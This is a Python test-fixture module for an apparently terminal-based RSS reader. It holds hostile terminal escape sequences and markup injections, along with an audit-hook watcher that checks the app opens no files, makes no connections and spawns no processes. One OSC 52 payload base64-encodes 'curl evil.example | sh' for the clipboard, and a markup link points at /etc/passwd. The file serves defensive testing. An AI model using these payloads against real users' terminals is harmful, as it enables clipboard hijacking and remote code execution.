"""Payloads and probes shared by the hostile-input tests (test_hostile_*.py, test_fuzz.py).

* `TERMINAL` holds what a stranger could put in a title, an author or a body to act on the
  reader's terminal; `FORBIDDEN` is every character that must never reach it.
* `MARKUP` holds Textual/Rich markup that must show literally (and markup that makes the
  markup parser raise, for the code that would wrongly parse it).
* `Watch` records, through a CPython audit hook, every file opened and every connection made
  while it is active, so a test can assert that a payload made the app do neither.
"""

from __future__ import annotations

import re
import sys
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path

FIXTURES = Path(__file__).parent / "fixtures" / "hostile"

ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"
TERMINAL = {
    "osc0-title": f"{ESC}]0;pwned window title{BEL}",
    "osc8-link": f"{ESC}]8;;https://evil.example/{ST}click me{ESC}]8;;{ST}",
    "osc52-clipboard": f"{ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA=={BEL}",
    "csi-clear": f"{ESC}[2J{ESC}[H{ESC}[3J",
    "csi-color": f"{ESC}[31;1mred{ESC}[0m",
    "c1-csi": "\x9b2J\x9b31m",
    "c1-osc": "\x9d0;title\x9c",
    "c1-all": "".join(chr(c) for c in range(0x80, 0xA0)),
    "c0-all": "".join(chr(c) for c in range(0x00, 0x20) if c not in (9, 10)),
    "del": "a\x7fb",
    "bidi-overrides": "\u202aL\u202bR\u202cP\u202dO\u202eE",
    "bidi-isolates": "\u2066L\u2067R\u2068F\u2069P",
    "dcs": f"{ESC}P1$t{ST}",
    "lone-surrogates": "a\ud800b\udfffc",
}
# Every character that must never reach the terminal (tab and newline are allowed).
FORBIDDEN = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")

MARKUP = {
    "click-quit": "[@click=app.quit]Click for free money[/]",
    "click-exit": "[@click=app.exit]x[/] [@click=screen.dismiss]y[/]",
    "link-file": "[link=file:///etc/passwd]your bank[/link]",
    "style": "[bold red on white]not bold[/]",
    "unclosed-close": "[/bold] closes nothing",
    "bad-close": "[/nope]",
    "broken-tag": "[link=",
    "variable": "$accent [$accent]x[/]",
    "rich-emoji": ":warning: :cross_mark:",
}


def all_terminal() -> str:
    return " | ".join(TERMINAL.values())


def all_markup() -> str:
    return " ".join(MARKUP.values())


def forbidden_in(text: str) -> list[str]:
    """The forbidden characters found in `text`, as escapes (for readable failures)."""
    return sorted({f"U+{ord(c):04X}" for c in FORBIDDEN.findall(text)})


@dataclass
class Watch:
    """What the process did while watched: files opened (path, mode) and connections made."""

    opened: list[tuple[str, str]] = field(default_factory=list)
    connected: list[str] = field(default_factory=list)
    resolved: list[str] = field(default_factory=list)
    spawned: list[str] = field(default_factory=list)

    def opened_paths(self) -> list[str]:
        return [p for p, _ in self.opened]

    def written_paths(self) -> list[str]:
        """Files opened for writing, but Python's own bytecode: a module imported for the
        first time while watched has its `.pyc` written (through a temporary name,
        `NAME.pyc.NUMBER`) where bytecode may be written, which is the interpreter's doing,
        not the program's."""
        return [p for p, mode in self.opened
                if any(c in mode for c in "wax+") and not _BYTECODE.search(p)]


_BYTECODE = re.compile(r"[/\\]__pycache__[/\\][^/\\]+\.pyc(?:\.\d+)?$")
_state = threading.local()
_active: list[Watch] = []
# Re-entrant: a tracer (Hypothesis traces a failing test to explain it) can raise an audit
# event while `watching` holds the lock, and the hook then runs on the same thread.
_lock = threading.RLock()
_installed = False


def _hook(event: str, args: tuple[object, ...]) -> None:
    if not _active:
        return
    if getattr(_state, "inside", False):
        return
    _state.inside = True
    try:
        with _lock:
            watches = list(_active)
        for watch in watches:
            if event == "open":
                path, mode = args[0], args[1]
                if isinstance(path, int):
                    continue
                flags = args[2] if len(args) > 2 else 0
                text_mode = str(mode) if mode else ("w" if isinstance(flags, int)
                                                    and flags & 0o3 else "r")
                watch.opened.append((str(path), text_mode))
            elif event == "sqlite3.connect":
                watch.opened.append((str(args[0]), "w"))
            elif event == "socket.connect" and isinstance(args[1], tuple):
                watch.connected.append(repr(args[1]))  # the network, not a local socket
            elif event == "socket.getaddrinfo":
                watch.resolved.append(str(args[0]))
            elif event in ("subprocess.Popen", "os.system", "os.exec", "os.posix_spawn"):
                watch.spawned.append(repr(args[:2]))
    finally:
        _state.inside = False


@contextmanager
def watching() -> Iterator[Watch]:
    """Record opens, connections and spawned programs in this process while inside."""
    global _installed
    if not _installed:
        sys.addaudithook(_hook)  # cannot be removed; it does nothing while nothing watches
        _installed = True
    watch = Watch()
    with _lock:
        _active.append(watch)
    try:
        yield watch
    finally:
        with _lock:
            _active.remove(watch)


def rss(title: str, items: list[dict[str, str]], *, prolog: str = "") -> str:
    """A small RSS 2.0 document; item values are inserted as they are (escape them first)."""
    body = "".join(
        "<item>" + "".join(f"<{k}>{v}</{k}>" for k, v in item.items()) + "</item>"
        for item in items)
    return (f'<?xml version="1.0" encoding="utf-8"?>{prolog}<rss version="2.0" '
            'xmlns:dc="http://purl.org/dc/elements/1.1/"><channel>'
            f"<title>{title}</title><link>http://example.org/</link>{body}</channel></rss>")


def xml_text(text: str) -> str:
    """`text` as XML character data: escaped, with control characters as references where
    XML allows none (so the document stays well-formed and the payload still arrives)."""
    from xml.sax.saxutils import escape

    out = []
    for char in escape(text):
        code = ord(char)
        if code < 0x20 and char not in "\t\n\r" or 0xD800 <= code <= 0xDFFF:
            out.append(f"&#x{code:X};")
        else:
            out.append(char)
    return "".join(out)
